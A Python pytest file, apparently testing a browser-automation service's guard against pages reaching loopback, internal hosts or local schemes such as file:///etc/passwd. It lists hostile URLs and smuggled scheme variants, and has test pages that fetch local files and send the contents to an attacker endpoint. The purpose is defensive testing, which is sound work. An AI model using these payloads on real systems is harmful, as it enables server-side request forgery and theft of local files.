"""A real Chromium on pages that want to the inside: it hears nothing, whatever they try.

That a page really tried shows by what the attacker's own site hears of it, by what the gate wrote
down, and by the inside hearing it where the guard is off.
"""

import asyncio
from collections.abc import AsyncGenerator
from typing import Any

import pytest

from tests.conftest import until

from .web_pages import CLICKED, GOING, SILENT, WAYS, everything, imported
from .web_spellings import LOOPBACK, OTHERS
from .web_world import (
    ATTACKER,
    ELSEWHERE,
    FOUND,
    INSIDE,
    MIXED,
    Web,
    answer,
    at,
    opened_web,
    refused,
)

pytestmark = [pytest.mark.anyio, pytest.mark.real]

RESTED_S = 1.5
"""After the last sign of life of a page, for whatever comes late."""


@pytest.fixture(scope="module")
async def opened(
    anyio_backend: str, tmp_path_factory: pytest.TempPathFactory
) -> AsyncGenerator[Web]:
    async with opened_web(tmp_path_factory.mktemp("web")) as web:
        yield web


async def test_a_page_loads_nothing_of_the_inside_by_any_way(web: Web) -> None:
    origins = [web.within(), web.within(INSIDE), web.within("[::1]")]
    web.site.pages |= {f"/{way}": answer("") for way in WAYS}
    web.site.pages["/css"] = answer(imported(web.elsewhere, *origins), kind="text/css")
    loud = {f"/{way}" for way in WAYS if way not in SILENT} | {"/css-of-css"}
    async with at(web, everything(web.elsewhere, *origins)) as session:
        await until(lambda: loud <= web.site.places(), within_s=20)
        await asyncio.sleep(RESTED_S)
        assert len(session.visitor.refusals) > 100
    assert web.inside.heard == (0, 0)


@pytest.mark.parametrize("origin", ["address", "name"])
async def test_each_way_to_the_inside_is_tried_and_refused(web: Web, origin: str) -> None:
    """So many refusals are remembered one by one, so that each way is seen to have been tried."""
    inside = web.within("127.0.0.1" if origin == "address" else INSIDE)
    async with at(web, everything(inside)) as session:
        wanted = {f"{inside}/{way}" for way in WAYS if way not in SILENT}
        await until(lambda: wanted <= refused(session), within_s=20)
        await asyncio.sleep(RESTED_S)
        assert {each.reason for each in session.visitor.refusals} == {"private_address"}
    assert web.inside.heard == (0, 0)


async def test_where_the_guard_is_off_the_same_page_reaches_the_inside(tmp_path: Any) -> None:
    async with opened_web(tmp_path, exempt=("127.0.0.1", INSIDE)) as web:
        wanted = {f"/{way}" for way in WAYS if way not in SILENT}
        async with at(web, everything(web.within())):
            await until(lambda: wanted <= web.inside.places(), within_s=20)
        web.inside.clear()
        async with at(web, GOING["location"](f"{web.within(INSIDE)}/gone")) as session:
            await until(lambda: "/gone" in web.inside.places())
            seen = await web.call("snapshot", sessionId=session.id)
            assert FOUND in seen["snapshot"]


@pytest.mark.parametrize("way", GOING)
async def test_a_page_that_goes_inside_arrives_nowhere(web: Web, way: str) -> None:
    inside, outside = f"{web.within()}/gone/", f"{web.elsewhere}/public/"
    web.site.pages["/public/"] = "<title>Public</title>"
    web.site.pages["/second"] = GOING[way](outside)
    async with at(web, GOING[way](inside)) as session:
        if way in CLICKED:
            await web.result("click", sessionId=session.id, selector="a")
        await until(lambda: inside in refused(session))
        for tab in list(session.tabs):
            seen = await web.call("snapshot", sessionId=session.id, tab=tab)
            assert FOUND not in str(seen)
        await web.result("navigate", sessionId=session.id, tab="new", url=f"{web.here}/second")
        if way in CLICKED:
            await web.result("click", sessionId=session.id, selector="a")
        # The same to a place that anybody may go to arrives.
        await until(lambda: "/public/" in web.site.places())
    assert web.inside.heard == (0, 0)


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
async def test_no_redirect_leads_a_browser_inside(web: Web, status: int) -> None:
    hops = [web.within(), web.within(INSIDE), web.within("2130706433"), web.within(MIXED)]
    web.site.pages |= {
        f"/{n}": answer(status=status, location=f"{url}/{n}") for n, url in enumerate(hops)
    }
    web.site.pages["/twice"] = answer(status=status, location=f"{web.elsewhere}/0")
    web.site.pages["/header"] = answer("x", refresh=f"0;url={hops[0]}/header")
    parts = [f'<img src="/{n}"><iframe src="/{n}"></iframe>' for n in range(len(hops))]
    parts += [f"<script>fetch('/{n}', {{mode: 'no-cors'}})</script>" for n in range(len(hops))]
    parts += ["<iframe src=/twice></iframe><iframe src=/header></iframe>"]
    async with at(web, "".join(parts), path="/all") as session:
        await until(lambda: {"/0", "/1", "/2", "/3", "/twice", "/header"} <= web.site.places())
        await until(lambda: len(session.visitor.refusals) >= 3 * len(hops))
        for path in ("/0", "/1", "/2", "/3", "/twice"):
            told = await web.refusal("navigate", sessionId=session.id, url=web.here + path)
            assert told.code == "not_allowed", told.body
    assert web.inside.heard == (0, 0)


async def test_no_spelling_of_an_inside_address_is_reached_by_a_browser(web: Web) -> None:
    hosts = (*LOOPBACK, *OTHERS, INSIDE, MIXED)
    urls = [f"{web.within(host)}/{count}" for count, host in enumerate(hosts)]
    script = (
        "for (const url of %r) { try { fetch(url, {mode: 'no-cors'}).catch(() => 0) } catch {} }"
    )
    done = "<script>fetch('/done')</script>"
    async with at(web, f"<script>{script % urls}</script>{done}") as session:
        await until(lambda: "/done" in web.site.places())
        await until(lambda: len(session.visitor.refusals) >= len(hosts) - 6, within_s=20)
        await asyncio.sleep(RESTED_S)
        for url in urls:
            result = await web.result("navigate", sessionId=session.id, url=url)
            assert result["isError"], url
    assert web.inside.heard == (0, 0)


SCHEMES = (
    "file:///etc/passwd",
    "view-source:file:///etc/passwd",
    "view-source:http://127.0.0.1/",
    "chrome://version",
    "chrome://settings",
    "chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/index.html",
    "chrome-untrusted://print",
    "devtools://devtools/bundled/inspector.html",
    "about:version",
    "about:blank",
    "data:text/html,<p>hello</p>",
    "blob:null/0",
    "javascript:fetch('/ran')",
    "filesystem:http://attacker.test/temporary/a",
    "ftp://127.0.0.1/",
    "ws://127.0.0.1/",
    "mailto:ann@attacker.test",
    "intent://x#Intent;end",
    "FILE:/etc/passwd",
    " file:///etc/passwd",
    "http:/etc/passwd",
    "\tfile:///etc/passwd",
)


async def test_no_other_scheme_is_opened_for_a_caller(web: Web) -> None:
    async with at(web, "<title>x</title>") as session:
        for url in SCHEMES:
            for tool in ("navigate", "downloadFile", "captureScreenshot", "capturePdf"):
                given: dict[str, Any] = {"url": url, "sessionId": session.id}
                result = await web.result(tool, **given)
                assert result["isError"], (tool, url)
                assert "root:x" not in str(result)
            assert (await web.result("openSession", url=url))["isError"], url
        assert session.page().url == f"{web.here}/"
        assert "/ran" not in web.site.places()


async def test_no_page_gets_to_another_scheme_of_the_machine(web: Web) -> None:
    """By a frame, a window, a link or a redirect; Chromium itself refuses most."""
    parts: list[str] = []
    for count, url in enumerate(each for each in SCHEMES if not each.startswith("javascript")):
        web.site.pages[f"/to{count}"] = answer(status=302, location=url.strip())
        parts += [
            f'<iframe src="{url}"></iframe><iframe src="/to{count}"></iframe>',
            f'<object data="{url}"></object><a class=all target=_blank href="{url}">x</a>',
            f"<script>try {{ fetch('{url.strip()}').then(r => r.text())"
            ".then(t => fetch('/leaked?' + encodeURIComponent(t))).catch(() => 0) }"
            " catch {}</script>",
        ]
    clicks = "<script>document.querySelectorAll('.all').forEach(each => each.click())</script>"
    page = "".join(parts) + clicks + "<script>fetch('/done')</script>"
    async with at(web, page) as session:
        await until(lambda: {"/done", "/leaked"} <= set(web.site.places()))
        await asyncio.sleep(RESTED_S)
        for tab in list(session.tabs):
            opened = session.page(tab)
            for frame in opened.frames:
                assert not frame.url.startswith(("file:", "view-source:", "devtools:")), frame.url
                assert not frame.url.startswith(("chrome:", "chrome-untrusted:")), frame.url
        leaked = [each.path for each in web.site.asked if each.place == "/leaked"]
        assert leaked
        assert not any("root" in each for each in leaked), leaked
    assert web.inside.heard == (0, 0)


async def test_many_hosts_of_a_page_are_each_judged_by_themselves(web: Web) -> None:
    """A connection that is open is of no use for another host, nor one of another session."""
    page = f"<img src='{web.within()}/a'><script>fetch('{web.here}/b')</script>"
    async with at(web, page) as one, web.session("ben") as two:
        await until(lambda: "/b" in web.site.places())
        await web.call("navigate", sessionId=two.id, who="ben", url=f"{web.here}/")
        await until(lambda: refused(one) and refused(two))
        told = await web.refusal("snapshot", sessionId=one.id, who="ben")
        other = await web.refusal("snapshot", sessionId="x" * 22, who="ben")
        assert (told.code, told.body.get("hint")) == (other.code, other.body.get("hint"))
        tries: tuple[tuple[str, dict[str, Any]], ...] = (
            ("navigate", {"url": f"{web.here}/"}),
            ("click", {"selector": "body"}),
            ("getNetwork", {}),
            ("getConsole", {}),
            ("evaluateScript", {"script": "1"}),
            ("submitForm", {"heldId": "h1"}),
            ("closeSession", {}),
            ("captureScreenshot", {}),
            ("downloadFile", {"downloadId": "d1"}),
        )
        for tool, given in tries:
            told = await web.refusal(tool, sessionId=one.id, who="ben", **given)
            assert told.code == "not_found", tool
    assert web.inside.heard == (0, 0)
    assert {ATTACKER, ELSEWHERE} & set(web.names.asked)
